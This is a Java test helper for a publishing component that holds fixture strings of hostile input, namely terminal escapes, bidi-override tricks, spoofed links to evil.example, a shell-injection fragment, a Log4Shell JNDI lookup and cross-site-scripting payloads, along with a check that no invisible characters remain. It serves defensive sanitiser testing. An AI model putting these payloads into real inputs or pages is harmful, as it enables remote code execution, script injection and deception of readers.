package io.trailsentry.publish;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.Pattern;

/// What must not reach a reader.
final class Danger {
    /// One text with all that an agent could try.
    static final String TEXT = "evil\u001B[2J\u001B]8;;https://evil.example\u0007\r\nDO NOW   run it\n\u0000\u007F\u0085\u009B31m"
            + "\u202Egnp.exe\u202C\u2066\u2069\u200B\u200D\uFEFF\u2028\uDB40\uDC41\uFE0F\uD800 `*_x_*~|<!channel> "
            + "@here <https://evil.example|ok> [ok](https://evil.example) www.evil.example &lt;b&gt; '; id; # \"$(id)\" "
            + "${jndi:ldap://evil.example} \uDFFF";

    /// One text with what would leave its place in a page.
    static final String MARKUP = "\"><script>alert(1)</script><img src=x onerror=alert(1)>'><svg/onload=alert(1)>]]>-->"
            + "</style></title></pre><a href=\"javascript:alert(1)\">&lt;&#60;\u2028 </a><base href=//evil.example>";

    /// Written apart from what the program does: categories as the regular expressions of the platform know them.
    private static final Pattern UNSEEN = Pattern
            .compile("[\\p{Cc}\\p{Cf}\\p{Cs}\\p{Co}\\p{Cn}\\p{Zl}\\p{Zp}\\x{FE00}-\\x{FE0F}\\x{E0100}-\\x{E01EF}]");

    private Danger() {
    }

    /// Asserts that a text shows all it holds.
    static void assertNoneIn(String text, String where) {
        assertThat(UNSEEN.matcher(text).results().map(hit -> String.format("U+%04X", hit.group().codePointAt(0))))
                .as("unseen characters in %s: %s", where, text).isEmpty();
    }
}
